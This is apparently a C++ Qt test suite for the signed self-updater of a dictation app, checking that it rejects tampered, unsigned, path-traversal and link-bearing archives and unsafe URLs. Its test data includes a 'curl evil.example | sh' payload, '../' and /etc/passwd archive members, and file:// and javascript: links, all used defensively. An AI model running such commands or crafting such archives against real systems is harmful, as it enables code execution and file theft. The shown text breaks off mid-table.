#include "support/BundleKit.h"
#include "support/TestEnv.h"

#include "update/Bundle.h"
#include "update/Updater.h"
#include "engines/Net.h"
#include "fakes/FakeHttpService.h"
#include "keys/TestKeys.h"
#include "core/Log.h"

#include <QCoroTask>
#include <QDir>
#include <QDirIterator>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QSysInfo>
#include <QTemporaryDir>
#include <QTimer>

#include <csignal>
#include <fcntl.h>
#include <sys/file.h>
#include <unistd.h>

using BundleKit::Member;

namespace {

const QString kApp = QStringLiteral("Ombry Voice.app");
const QString kArchivePath = QStringLiteral("/releases/ombry-1.3.0.tar.gz");

const QString kNoLink = QStringLiteral("Lien de téléchargement absent.");
const QString kRefusedBySite = QStringLiteral("Téléchargement refusé par le site.");
const QString kNoApp = QStringLiteral("Le fichier téléchargé ne contient pas l'appli.");
const QString kRefused = QStringLiteral("Le fichier téléchargé est refusé : ");
const QString kBadSignature = QStringLiteral("La signature de la nouvelle version n'est pas valide.");
const QString kNotNewer = QStringLiteral("La version téléchargée n'est pas plus récente que celle installée.");
const QString kTooBig = QStringLiteral("Le fichier téléchargé est trop volumineux.");
const QString kBusy = QStringLiteral("Une autre installation de la mise à jour est déjà en cours.");
const QString kUnsigned = QStringLiteral("Paquet refusé : non signé");
const QString kRedirected = QStringLiteral("Téléchargement redirigé ailleurs : refusé");
const QString kNextStart =
    QStringLiteral("La mise à jour est installée : elle sera utilisée au prochain démarrage d'Ombry Voice.");

QJsonObject releaseJson(const QString &version = QStringLiteral("1.3.0"), qint64 build = 13,
                        const QString &link = QStringLiteral("https://cdn.example.org") + kArchivePath)
{
    return {{QStringLiteral("version"), version},
            {QStringLiteral("build"), build},
            {QStringLiteral("notes"), QJsonArray{QStringLiteral("Dictée plus rapide"), QStringLiteral("Corrections")}},
            {QStringLiteral("page"), QStringLiteral("https://ombry.example/notes/1.3.0")},
            {QStringLiteral("downloads"), QJsonObject{{QSysInfo::currentCpuArchitecture(), link}}}};
}

QString logText()
{
    Log::waitUntilWritten();
    return QString::fromUtf8(TestEnv::readFile(Log::path()));
}

// A process id that no longer runs.
qint64 deadPid()
{
    QProcess process;
    process.start(QStringLiteral("/bin/true"), {});
    process.waitForFinished();
    return process.processId() ? process.processId() : 999999;
}

// What a test installation runs against: an installed bundle of build 12, a
// fake site answering the feed and the download, and a private work root.
struct Rig
{
    QTemporaryDir root;
    FakeHttpService site;
    QString apps = root.path() + QStringLiteral("/apps");
    QString bundle = apps + QLatin1Char('/') + kApp;
    QString workRoot = root.path() + QStringLiteral("/cache/Ombry Voice");
    QString mark = root.path() + QStringLiteral("/mark");
    int quits = 0;
    QList<QUrl> opened;

    bool prepare()
    {
        if (!site.start())
            return false;
        qputenv("OMBRY_UPDATES_URL", site.url().toUtf8());
        qputenv("OMBRY_TEST_MARK", QFile::encodeName(mark));
        const QString pidFile = root.path() + QStringLiteral("/old.pid");
        qputenv("OMBRY_TEST_PIDFILE", QFile::encodeName(pidFile));
        return TestEnv::writeFile(pidFile, QByteArray::number(deadPid()))
            && BundleKit::make(bundle, Bundle::kIdentifier, QStringLiteral("1.2.0"), QStringLiteral("12"),
                               {{QStringLiteral("ombry-voice"), {"#!/bin/sh\necho ancienne > \"$OMBRY_TEST_MARK\"\n", true}}});
    }

    Updater::Setup setup()
    {
        Updater::Setup s;
        s.bundle = bundle;
        s.executable = QStringLiteral("ombry-voice");
        s.runningBuild = 12;
        s.publicKey = TestKeys::publicKey();
        s.workRoot = workRoot;
        s.pid = deadPid();
        s.quit = [this] { ++quits; };
        s.openUrl = [this](const QUrl &url) {
            opened.append(url);
            return true;
        };
        return s;
    }

    // A signed release bundle, packed; `change` spoils it in one way.
    QByteArray release(const QString &version = QStringLiteral("1.3.0"), const QString &build = QStringLiteral("13"),
                       const QByteArray &key = TestKeys::secretKey(), bool withProgram = true)
    {
        QTemporaryDir dir;
        const QString app = dir.path() + QLatin1Char('/') + kApp;
        QMap<QString, BundleKit::File> files{{QStringLiteral("lib/notes.txt"), {"nouveautés", false}}};
        if (withProgram)
            files.insert(QStringLiteral("ombry-voice"), {BundleKit::markerProgram(), true});
        BundleKit::make(app, Bundle::kIdentifier, version, build, files);
        Bundle::sign(app, key);
        return BundleKit::pack(app);
    }

    void offer(const QJsonObject &release) { site.on("GET", QStringLiteral("/api/updates"), ScriptedReply::json(release)); }

    // The archive and, unless `signer` is empty, its signature beside it.
    void serve(const QByteArray &archive, int status = 200, const QByteArray &signer = TestKeys::secretKey(),
               const QString &path = kArchivePath)
    {
        ScriptedReply reply = ScriptedReply::text(archive, status);
        reply.contentType = "application/gzip";
        site.on("GET", path, reply);
        if (!signer.isEmpty())
            site.on("GET", path + QStringLiteral(".sig"), ScriptedReply::text(BundleKit::signatureOf(archive, signer)));
    }

    QString beside(const QString &suffix) const { return Updater::besideBundle(bundle, suffix); }

    // Every name under the test root, to see that nothing was left or escaped.
    QStringList everything() const
    {
        QStringList names;
        QDirIterator it(root.path(), QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                        QDirIterator::Subdirectories);
        while (it.hasNext())
            names.append(QDir(root.path()).relativeFilePath(it.next()));
        names.sort();
        return names;
    }
};

enum class Spoil {
    HttpLink,
    NoLinkForThisMachine,
    Refused404,
    NotAnArchive,
    TamperedFile,
    Unsigned,
    OtherKey,
    ParentMember,
    AbsoluteMember,
    SymbolicLinkMember,
    HardLinkMember,
    NoAppFolder,
    NoProgram,
    NotNewer,
    TooLarge,
};

// What a release does that the updater must not trust blindly.
enum class Trial {
    UnsignedDeepArchive,
    OtherKeyNotAnArchive,
    RedirectedElsewhere,
    RedirectedWithinTheSite,
    ExitsAtOnce,
    StartsWell,
};

// Holds the bundle's lock the way a running installation or relaunch does.
struct HeldLock
{
    int fd;
    explicit HeldLock(const QString &path)
        : fd(::open(QFile::encodeName(path).constData(),
                    QFileInfo(path).isDir() ? O_RDONLY | O_DIRECTORY | O_CLOEXEC : O_RDWR | O_CREAT | O_CLOEXEC, 0644))
    {
    }
    ~HeldLock() { ::close(fd); }
    bool held() const { return fd >= 0 && ::flock(fd, LOCK_EX | LOCK_NB) == 0; }
};

QStringList hiddenAndShown(const QString &folder)
{
    return QDir(folder).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot);
}

} // namespace

Q_DECLARE_METATYPE(Spoil)
Q_DECLARE_METATYPE(Trial)

class TestUpdater : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init()
    {
        qunsetenv("OMBRY_UPDATES_URL");
    }

    void decode_data()
    {
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<bool>("decodes");
        const QJsonObject full = releaseJson();
        auto without = [&full](const char *key) {
            QJsonObject o = full;
            o.remove(QString::fromLatin1(key));
            return QJsonDocument(o).toJson();
        };
        auto with = [&full](const char *key, const QJsonValue &value) {
            QJsonObject o = full;
            o.insert(QString::fromLatin1(key), value);
            return QJsonDocument(o).toJson();
        };
        QTest::newRow("complete") << QJsonDocument(full).toJson() << true;
        QTest::newRow("extra key") << with("channel", QStringLiteral("beta")) << true;
        QTest::newRow("no notes at all in the list") << with("notes", QJsonArray()) << true;
        QTest::newRow("whole number written with a point") << QByteArray(with("build", 13).replace("13", "13.0")) << true;
        for (const char *key : {"version", "build", "notes", "page", "downloads"})
            QTest::newRow(qPrintable(QStringLiteral("without ") + QLatin1String(key))) << without(key) << false;
        QTest::newRow("build in quotes") << with("build", QStringLiteral("13")) << false;
        QTest::newRow("build with a fraction") << with("build", 13.5) << false;
        QTest::newRow("version as a number") << with("version", 13) << false;
        QTest::newRow("a note that is not text") << with("notes", QJsonArray{QStringLiteral("a"), 2}) << false;
        QTest::newRow("notes as one text") << with("notes", QStringLiteral("a")) << false;
        QTest::newRow("a link that is not text") << with("downloads", QJsonObject{{QStringLiteral("x86_64"), 1}}) << false;
        QTest::newRow("page as null") << with("page", QJsonValue::Null) << false;
        QTest::newRow("an array") << QByteArray("[{\"version\":\"1\"}]") << false;
        QTest::newRow("not JSON") << QByteArray("<html>erreur</html>") << false;
        QTest::newRow("empty") << QByteArray() << false;
    }

    void decode()
    {
        QFETCH(QByteArray, body);
        QFETCH(bool, decodes);
        const auto release = Updater::decode(body);
        QCOMPARE(release.has_value(), decodes);
        if (release && QJsonDocument::fromJson(body).object().value(QStringLiteral("notes")).toArray().size() == 2) {
            QCOMPARE(release->version, QStringLiteral("1.3.0"));
            QCOMPARE(release->build, qint64(13));
            QCOMPARE(release->notes, (QStringList{QStringLiteral("Dictée plus rapide"), QStringLiteral("Corrections")}));
            QCOMPARE(release->page, QStringLiteral("https://ombry.example/notes/1.3.0"));
            QCOMPARE(release->downloads.value(QSysInfo::currentCpuArchitecture()),
                     QStringLiteral("https://cdn.example.org") + kArchivePath);
        }
    }

    void feedAddress_data()
    {
        QTest::addColumn<QString>("base");
        QTest::addColumn<QString>("address"); // empty: the base is refused
        QTest::newRow("site root") << QStringLiteral("https://ombry.example")
                                   << QStringLiteral("https://ombry.example/api/updates?app=voice");
        QTest::newRow("path with slash") << QStringLiteral("https://ombry.example/v/")
                                         << QStringLiteral("https://ombry.example/v/api/updates?app=voice");
        QTest::newRow("path without slash") << QStringLiteral("https://ombry.example/v")
                                            << QStringLiteral("https://ombry.example/v/api/updates?app=voice");
        QTest::newRow("base query replaced") << QStringLiteral("https://ombry.example/?app=other&x=1")
                                             << QStringLiteral("https://ombry.example/api/updates?app=voice");
        QTest::newRow("plain http elsewhere") << QStringLiteral("http://ombry.example") << QString();
        QTest::newRow("plain http on loopback") << QStringLiteral("http://127.0.0.1:8080")
                                                << QStringLiteral("http://127.0.0.1:8080/api/updates?app=voice");
        QTest::newRow("plain http on localhost") << QStringLiteral("http://localhost:8080")
                                                 << QStringLiteral("http://localhost:8080/api/updates?app=voice");
        QTest::newRow("plain http on IPv6 loopback") << QStringLiteral("http://[::1]:8080")
                                                     << QStringLiteral("http://[::1]:8080/api/updates?app=voice");
        QTest::newRow("plain http on a lookalike") << QStringLiteral("http://127.0.0.1.ombry.example") << QString();
        QTest::newRow("ftp") << QStringLiteral("ftp://ombry.example") << QString();
        QTest::newRow("not an address") << QStringLiteral("ombry") << QString();
    }

    void feedAddress()
    {
        QFETCH(QString, base);
        QFETCH(QString, address);
        qputenv("OMBRY_UPDATES_URL", base.toUtf8());
        const std::optional<QUrl> accepted = Updater::feedBase();
        QCOMPARE(accepted.has_value(), !address.isEmpty());
        if (accepted)
            QCOMPARE(Updater::feedAddress(*accepted).toString(QUrl::FullyEncoded), address);
    }

    void downloadAddress_data()
    {
        QTest::addColumn<QString>("link");
        QTest::addColumn<QString>("address");
        const QString base = QStringLiteral("https://ombry.example/site/");
        QTest::newRow("another host: same path on our site")
            << QStringLiteral("https://evil.example/releases/ombry.tar.gz?x=1#f")
            << QStringLiteral("https://ombry.example/releases/ombry.tar.gz");
        QTest::newRow("dot segments resolved") << QStringLiteral("https://cdn.example/a/../releases/./ombry.tar.gz")
                                               << QStringLiteral("https://ombry.example/releases/ombry.tar.gz");
        QTest::newRow("plain http") << QStringLiteral("http://ombry.example/releases/ombry.tar.gz") << QString();
        QTest::newRow("file scheme") << QStringLiteral("file:///etc/passwd") << QString();
        QTest::newRow("relative link") << QStringLiteral("/releases/ombry.tar.gz") << QString();
        QTest::newRow("no path") << QStringLiteral("https://cdn.example") << QString();
        QTest::newRow("not an address") << QStringLiteral("https://cdn.example:port/x") << QString();
        QTest::newRow("missing for this machine") << QString() << QString();
    }

    void downloadAddress()
    {
        QFETCH(QString, link);
        QFETCH(QString, address);
        Updater::Release release;
        if (!link.isNull())
            release.downloads.insert(QSysInfo::currentCpuArchitecture(), link);
        release.downloads.insert(QStringLiteral("arm64-other"), QStringLiteral("https://ombry.example/other.tar.gz"));
        const auto url = Updater::downloadAddress(release, QUrl(QStringLiteral("https://ombry.example/site/")),
                                                  QSysInfo::currentCpuArchitecture());
        QCOMPARE(url.has_value(), !address.isEmpty());
        if (url)
            QCOMPARE(url->toString(), address);
    }

    void openPage_data()
    {
        QTest::addColumn<QString>("page");
        QTest::addColumn<bool>("opens");
        QTest::newRow("https") << QStringLiteral("https://ombry.example/notes") << true;
        QTest::newRow("http") << QStringLiteral("http://ombry.example/notes") << true;
        QTest::newRow("file") << QStringLiteral("file:///home/user/.ssh/id_rsa") << false;
        QTest::newRow("javascript") << QStringLiteral("javascript:alert(1)") << false;
        QTest::newRow("mailto") << QStringLiteral("mailto:a@b.example") << false;
        QTest::newRow("https without host") << QStringLiteral("https:///notes") << false;
        QTest::newRow("not an address") << QStringLiteral("ceci n'est pas une adresse") << false;
        QTest::newRow("empty") << QString() << false;
    }

    void openPage()
    {
        QFETCH(QString, page);
        QFETCH(bool, opens);
        Rig rig;
        QVERIFY(rig.prepare());
        QJsonObject release = releaseJson();
        release.insert(QStringLiteral("page"), page);
        rig.offer(release);
        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        QCOMPARE(updater.pageOpenable(), opens);
        QCOMPARE(updater.openPage(), opens);
        QCOMPARE(rig.opened.size(), opens ? 1 : 0);
        if (opens)
            QCOMPARE(rig.opened.first().toString(), page);
    }

    void printable_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("shown");
        QTest::newRow("plain") << QStringLiteral("1.3.0") << QStringLiteral("1.3.0");
        QTest::newRow("terminal escape") << QStringLiteral("1.3.0\x1b[2J") << QStringLiteral("1.3.0[2J");
        QTest::newRow("line break forging a log line")
            << QStringLiteral("1.3.0\n2030-01-01 mise à jour installée : 9") << QStringLiteral("1.3.02030-01-01 mise à jour installée : 9");
        QTest::newRow("direction override") << QStringLiteral("1.3.0\u202Egpj.exe") << QStringLiteral("1.3.0gpj.exe");
        QTest::newRow("C1 control") << QStringLiteral("a\u0085b") << QStringLiteral("ab");
        QTest::newRow("accents stay") << QStringLiteral("Été 2025") << QStringLiteral("Été 2025");
        QTest::newRow("long text cut") << QString(300, QLatin1Char('v')) << QString(200, QLatin1Char('v'));
    }

    void printable()
    {
        QFETCH(QString, text);
        QFETCH(QString, shown);
        QCOMPARE(Updater::printable(text), shown);
    }

    void check_data()
    {
        QTest::addColumn<int>("status");
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<bool>("newer");
        QTest::addColumn<QString>("available"); // version after the check; "" none
        QTest::addColumn<QString>("logged");    // empty: nothing new in the log

        const QByteArray later = QJsonDocument(releaseJson(QStringLiteral("1.4.0"), 14)).toJson();
        QTest::newRow("newer build") << 200 << later << true << QStringLiteral("1.4.0")
                                     << QStringLiteral("mise à jour disponible : 1.4.0");
        QTest::newRow("same build clears the offer") << 200 << QJsonDocument(releaseJson(QStringLiteral("1.2.0"), 12)).toJson()
                                                     << false << QString() << QString();
        QTest::newRow("older build clears the offer") << 200 << QJsonDocument(releaseJson(QStringLiteral("1.1.0"), 11)).toJson()
                                                      << false << QString() << QString();
        QTest::newRow("not modified") << 304 << QByteArray() << false << QStringLiteral("1.3.0") << QString();
        QTest::newRow("server error") << 500 << later << false << QStringLiteral("1.3.0") << QString();
        QJsonObject quoted = releaseJson(QStringLiteral("1.4.0"), 14);
        quoted.insert(QStringLiteral("build"), QStringLiteral("14"));
        QTest::newRow("build in quotes") << 200 << QJsonDocument(quoted).toJson() << false << QStringLiteral("1.3.0") << QString();
        QJsonObject extra = releaseJson(QStringLiteral("1.4.0"), 14);
        extra.insert(QStringLiteral("signature"), QStringLiteral("x"));
        QTest::newRow("extra key") << 200 << QJsonDocument(extra).toJson() << true << QStringLiteral("1.4.0")
                                   << QStringLiteral("mise à jour disponible : 1.4.0");
        QTest::newRow("version with control characters")
            << 200 << QJsonDocument(releaseJson(QStringLiteral("1.4.0\n\x1b[31m"), 14)).toJson() << true
            << QStringLiteral("1.4.0\n\x1b[31m") << QStringLiteral("mise à jour disponible : 1.4.0[31m\n");
    }

    void check()
    {
        QFETCH(int, status);
        QFETCH(QByteArray, body);
        QFETCH(bool, newer);
        QFETCH(QString, available);
        QFETCH(QString, logged);

        Rig rig;
        QVERIFY(rig.prepare());
        Updater updater(rig.setup());
        // A first check finds 1.3.0.
        rig.site.enqueue("GET", QStringLiteral("/api/updates"), ScriptedReply::json(releaseJson()));
        QVERIFY(QCoro::waitFor(updater.check()));
        QCOMPARE(updater.version(), QStringLiteral("1.3.0"));

        QSignalSpy changes(&updater, &Updater::availableChanged);
        const qsizetype logBefore = logText().size();
        ScriptedReply reply = ScriptedReply::text(body, status);
        reply.contentType = "application/json";
        rig.site.enqueue("GET", QStringLiteral("/api/updates"), reply);
        QCOMPARE(QCoro::waitFor(updater.check()), newer);
        QCOMPARE(updater.hasRelease(), !available.isEmpty());
        QCOMPARE(updater.version(), available);
        QCOMPARE(changes.size(), available == QStringLiteral("1.3.0") ? 0 : 1);
        const QString added = logText().mid(logBefore);
        if (logged.isEmpty())
            QVERIFY2(!added.contains(QStringLiteral("mise à jour")), qPrintable(added));
        else
            QVERIFY2(added.contains(logged), qPrintable(added));

        // Every request carries one query item, app=voice.
        for (const RecordedRequest &request : rig.site.requests(QStringLiteral("/api/updates"))) {
            QCOMPARE(request.method, QByteArray("GET"));
            QCOMPARE(request.rawQuery, QStringLiteral("app=voice"));
        }
        QCOMPARE(rig.site.count(QStringLiteral("/api/updates")), 2);
    }

    void checkFailures_data()
    {
        QTest::addColumn<QString>("base");
        QTest::addColumn<QString>("failure");
        QTest::newRow("no feed configured") << QString()
                                            << QStringLiteral("Aucun flux de mises à jour n'est configuré (OMBRY_UPDATES_URL).");
        QTest::newRow("plain http elsewhere") << QStringLiteral("http://ombry.example")
                                              << QStringLiteral("Adresse du flux de mises à jour refusée : https est requis.");
        QTest::newRow("nobody listening") << QStringLiteral("http://127.0.0.1:9") << QStringLiteral("Le service est injoignable");
        QTest::newRow("not found") << QStringLiteral("@SITE@") << QStringLiteral("Le flux de mises à jour a répondu 404.");
        QTest::newRow("notes of 200 MB") << QStringLiteral("@SITE@/big") << QStringLiteral("Le flux de mises à jour est trop volumineux.");
    }

    void checkFailures()
    {
        QFETCH(QString, base);
        QFETCH(QString, failure);
        FakeHttpService site;
        QVERIFY(site.start());
        // A release whose notes alone pass the bound (smaller here, the same rule).
        QJsonObject big = releaseJson();
        big.insert(QStringLiteral("notes"), QJsonArray{QString(300 * 1024, QLatin1Char('n'))});
        site.on("GET", QStringLiteral("/big/api/updates"), ScriptedReply::json(big));
        if (base.isNull())
            qunsetenv("OMBRY_UPDATES_URL");
        else
            qputenv("OMBRY_UPDATES_URL", QString(base).replace(QStringLiteral("@SITE@"), site.url()).toUtf8());
        Updater updater(Updater::Setup{});
        const Updater::CheckResult result = QCoro::waitFor(updater.checkFeed());
        QCOMPARE(result.newer, false);
        QCOMPARE(result.failure, failure);
        QVERIFY(!updater.hasRelease());
    }

    // The banner: title, second line, button, closing.
    void banner()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        Updater updater(rig.setup());
        QVERIFY(!updater.bannerVisible());
        QCOMPARE(updater.title(), QString());

        QJsonObject noNotes = releaseJson();
        noNotes.insert(QStringLiteral("notes"), QJsonArray());
        rig.site.enqueue("GET", QStringLiteral("/api/updates"), ScriptedReply::json(noNotes));
        QVERIFY(QCoro::waitFor(updater.check()));
        QVERIFY(updater.bannerVisible());
        QCOMPARE(updater.title(), QStringLiteral("Ombry Voice 1.3.0 est disponible"));
        QCOMPARE(updater.detail(), QString());
        QCOMPARE(updater.installLabel(), QStringLiteral("Mettre à jour"));

        rig.offer(releaseJson());
        QVERIFY(QCoro::waitFor(updater.check()));
        QCOMPARE(updater.detail(), QStringLiteral("Dictée plus rapide"));
        QVERIFY(!updater.detailIsError());

        // While the download hangs: "Installation…", and a second click does nothing.
        rig.serve(rig.release());
        rig.site.on("GET", kArchivePath, ScriptedReply::hanging());
        QSignalSpy installing(&updater, &Updater::installingChanged);
        updater.startInstall();
        QVERIFY(updater.installing());
        QCOMPARE(updater.installLabel(), QStringLiteral("Installation…"));
        QVERIFY(rig.site.waitForRequests(1, 5000, kArchivePath));
        updater.startInstall();
        QTest::qWait(100);
        QCOMPARE(rig.site.count(kArchivePath), 1);
        QCOMPARE(installing.size(), 1);
    }

    void bannerAfterRefusal()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        rig.serve("introuvable", 404);
        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        QCoro::waitFor(updater.install());
        QCOMPARE(updater.detail(), kRefusedBySite);
        QVERIFY(updater.detailIsError());
        QCOMPARE(updater.installLabel(), QStringLiteral("Mettre à jour"));
        QVERIFY(updater.bannerVisible());

        // The next attempt clears the error while it runs.
        rig.serve(rig.release());
        QSignalSpy errors(&updater, &Updater::errorChanged);
        QCoro::waitFor(updater.install());
        QCOMPARE(errors.size(), 1);
        QCOMPARE(updater.error(), QString());
    }

    void dismissedStaysHidden()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.offer(releaseJson());
        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        updater.setDismissed(true);
        QVERIFY(!updater.bannerVisible());
        rig.offer(releaseJson(QStringLiteral("1.4.0"), 14));
        QVERIFY(QCoro::waitFor(updater.check()));
        QCOMPARE(updater.version(), QStringLiteral("1.4.0"));
        QVERIFY(!updater.bannerVisible());
    }

    void installWithNothingAvailable()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        Updater updater(rig.setup());
        QSignalSpy installing(&updater, &Updater::installingChanged);
        const qsizetype logBefore = logText().size();
        QCoro::waitFor(updater.install());
        QCOMPARE(installing.size(), 0);
        QCOMPARE(logText().size(), logBefore);
        QCOMPARE(rig.site.count(), 0);
    }

    void installRefused_data()
    {
        QTest::addColumn<Spoil>("spoil");
        QTest::addColumn<QString>("message");
        QTest::addColumn<bool>("downloads");
        QTest::newRow("link over plain http") << Spoil::HttpLink << kNoLink << false;
        QTest::newRow("no link for this machine") << Spoil::NoLinkForThisMachine << kNoLink << false;
        QTest::newRow("refused by the site") << Spoil::Refused404 << kRefusedBySite << true;
        QTest::newRow("not an archive") << Spoil::NotAnArchive << (kRefused + QStringLiteral("archive illisible.")) << true;
        QTest::newRow("tampered file") << Spoil::TamperedFile << kBadSignature << true;
        QTest::newRow("unsigned archive") << Spoil::Unsigned << kBadSignature << true;
        QTest::newRow("signed with another key") << Spoil::OtherKey << kBadSignature << true;
        QTest::newRow("member climbing out") << Spoil::ParentMember << (kRefused + QStringLiteral("chemin remontant (« .. ») dans l'archive.")) << true;
        QTest::newRow("absolute member") << Spoil::AbsoluteMember << (kRefused + QStringLiteral("chemin absolu dans l'archive.")) << true;
        QTest::newRow("symbolic link member") << Spoil::SymbolicLinkMember << (kRefused + QStringLiteral("lien dans l'archive.")) << true;
        QTest::newRow("hard link member") << Spoil::HardLinkMember << (kRefused + QStringLiteral("lien dans l'archive.")) << true;
        QTest::newRow("no application folder") << Spoil::NoAppFolder << kNoApp << true;
        QTest::newRow("signed bundle without the program") << Spoil::NoProgram << kNoApp << true;
        QTest::newRow("signed build not newer") << Spoil::NotNewer << kNotNewer << true;
        QTest::newRow("larger than allowed") << Spoil::TooLarge << kTooBig << true;
    }

    void installRefused()
    {
        QFETCH(Spoil, spoil);
        QFETCH(QString, message);
        QFETCH(bool, downloads);

        Rig rig;
        QVERIFY(rig.prepare());
        Updater::Setup setup = rig.setup();
        QJsonObject offer = releaseJson();
        const QString outside = rig.root.path() + QStringLiteral("/evil");
        const QList<Member> honest = [&rig] {
            QTemporaryDir dir;
            const QString app = dir.path() + QLatin1Char('/') + kApp;
            BundleKit::make(app, Bundle::kIdentifier, QStringLiteral("1.3.0"), QStringLiteral("13"),
                            {{QStringLiteral("ombry-voice"), {BundleKit::markerProgram(), true}}});
            Bundle::sign(app, TestKeys::secretKey());
            return BundleKit::membersOf(app, kApp);
        }();
        QByteArray archive = rig.release();
        switch (spoil) {
        case Spoil::HttpLink:
            offer = releaseJson(QStringLiteral("1.3.0"), 13, QStringLiteral("http://cdn.example.org") + kArchivePath);
            break;
        case Spoil::NoLinkForThisMachine:
            offer.insert(QStringLiteral("downloads"), QJsonObject{{QStringLiteral("arm64"), QStringLiteral("https://x.example/a.tar.gz")}});
            break;
        case Spoil::Refused404:
            rig.serve("introuvable", 404);
            break;
        case Spoil::NotAnArchive:
            archive = "<html>Maintenance</html>";
            break;
        case Spoil::TamperedFile: {
            QList<Member> members = honest;
            for (Member &member : members) {
                if (member.name.endsWith(QStringLiteral("/ombry-voice")))
                    member.content = "#!/bin/sh\ncurl evil.example | sh\n";
            }
            archive = BundleKit::craft(members);
            break;
        }
        case Spoil::Unsigned: {
            QList<Member> members;
            for (const Member &member : honest) {
                if (!member.name.contains(QStringLiteral("_CodeSignature")))
                    members.append(member);
            }
            archive = BundleKit::craft(members);
            break;
        }
        case Spoil::OtherKey:
            archive = rig.release(QStringLiteral("1.3.0"), QStringLiteral("13"), TestKeys::strangerSecretKey());
            break;
        case Spoil::ParentMember:
            archive = BundleKit::craft(honest + QList<Member>{{kApp + QStringLiteral("/../../../../evil"), Member::File, "x", {}, 0644}});
            break;
        case Spoil::AbsoluteMember:
            archive = BundleKit::craft(honest + QList<Member>{{outside, Member::File, "x", {}, 0644}});
            break;
        case Spoil::SymbolicLinkMember:
            archive = BundleKit::craft(QList<Member>{{kApp + QStringLiteral("/lib"), Member::SymbolicLink, {}, outside, 0777}} + honest);
            break;
        case Spoil::HardLinkMember:
            archive = BundleKit::craft(honest + QList<Member>{{kApp + QStringLiteral("/passwd"), Member::HardLink, {},
                                                                 QStringLiteral("/etc/passwd"), 0644}});
            break;
        case Spoil::NoAppFolder: {
            QList<Member> members;
            for (Member member : honest) {
                member.name.replace(kApp, QStringLiteral("Ombry Voice"));
                members.append(member);
            }
            archive = BundleKit::craft(members);
            break;
        }
        case Spoil::NoProgram:
            archive = rig.release(QStringLiteral("1.3.0"), QStringLiteral("13"), TestKeys::secretKey(), false);
            break;
        case Spoil::NotNewer:
            archive = rig.release(QStringLiteral("1.2.0"), QStringLiteral("12"));
            break;
        case Spoil::TooLarge:
            setup.maxDownload = archive.size() / 2;
            break;
        }
        if (spoil != Spoil::Refused404)
            rig.serve(archive);
        rig.offer(offer);
        const auto before = BundleKit::snapshot(rig.bundle);
        const QStringList everythingBefore = rig.everything();

        Updater updater(setup);
        QVERIFY(QCoro::waitFor(updater.check()));
        const qsizetype logBefore = logText().size();
        QCoro::waitFor(updater.install());

        QCOMPARE(updater.error(), message);
        QVERIFY(!updater.installing());
        QCOMPARE(updater.version(), QStringLiteral("1.3.0")); // may be tried again
        QCOMPARE(rig.site.count(kArchivePath), downloads ? 1 : 0);
        QVERIFY2(logText().mid(logBefore).contains(QStringLiteral("mise à jour : échec (") + message + QLatin1Char(')')),
                 qPrintable(logText().mid(logBefore)));
        QCOMPARE(rig.quits, 0);
        // The installed bundle is untouched, the work folder is gone, and
        // nothing was written anywhere else but the lock beside the bundle.
        QCOMPARE(BundleKit::snapshot(rig.bundle), before);
        QStringList expected = everythingBefore;
        if (downloads) {
            expected << QStringLiteral("apps/.Ombry Voice.app.verrou") << QStringLiteral("cache")
                     << QStringLiteral("cache/Ombry Voice");
            expected.sort();
        }
        QCOMPARE(rig.everything(), expected);
    }

    // A site that sends a byte now and then never trips the idle limit: the
    // download's own deadline ends it.
    void drippingDownloadMeetsItsDeadline()
    {
        Rig rig;
        QVERIFY(rig.prepare());
        rig.serve(rig.release());
        ScriptedReply drip = ScriptedReply::text(QByteArray(400, 's'));
        drip.dripMs = 20; // 8 s for the whole signature, a byte well within the idle limit
        rig.site.on("GET", kArchivePath + QStringLiteral(".sig"), drip);
        rig.offer(releaseJson());
        Updater updater(rig.setup());
        QVERIFY(QCoro::waitFor(updater.check()));
        Net::setTimeScale(0.005); // idle 0.3 s, deadline about 0.3 s
        const auto restore = qScopeGuard([] { Net::setTimeScale(1); });
        QCoro::waitFor(updater.install());
        QCOMPARE(updater.error(), QStringLiteral("Le service ne répond pas"));
        QCOMPARE(rig.site.count(kArchivePath), 0);
    }

    // Crafted releases, and the first start of a new build deciding whether it stays.
    void releaseOutcome_data()
    {
        QTest::addColumn<Trial>("trial");
        QTest::addColumn<QString>("error");       // what install() ends in
        QTest::addColumn<qint64>("buildAfter");   // once any relaunch is over
        QTest::addColumn<QByteArray>("started");  // which program started: the mark it left
        QTest::addColumn<QString>("journal");     // a line the journal gains
        QTest::addColumn<QString>("restartError"); // what the next start shows in the banner

        const QString fail = QStringLiteral("mise à jour : échec (");
        QTest::newRow("unsigned archive of nested folders")
            << Trial::UnsignedDeepArchive << kUnsigned << qint64(12) << QByteArray() << fail + kUnsigned + QLatin1Char(')') << QString();
        QTest::newRow("not an archive, signed by another key")
            << Trial::OtherKeyNotAnArchive << kBadSignature << qint64(12) << QByteArray()
            << QStringLiteral("signature de l'archive refusée") << QString();
        QTest::newRow("redirected to another origin")
            << Trial::RedirectedElsewhere << kRedirected << qint64(12) << QByteArray() << fail + kRedirected + QLatin1Char(')')
            << QString();
        QTest::newRow("redirected within the site") << Trial::RedirectedWithinTheSite << QString() << qint64(13)
                                                    << QByteArray("après\n") << QStringLiteral("mise à jour installée : 1.3.0")
                                                    << QString();
        QTest::newRow("new build exits at once")
            << Trial::ExitsAtOnce << QString() << qint64(12) << QByteArray("ancienne\n")
            << QStringLiteral("mise à jour : la version 1.3.0 n'a pas démarré, retour à la version précédente")
            << QStringLiteral("La version 1.3.0 n'a pas démarré : Ombry Voice est revenu à la version précédente.");
        QTest::newRow("new build starts") << Trial::StartsWell << QString() << qint64(13) << QByteArray("après\n")
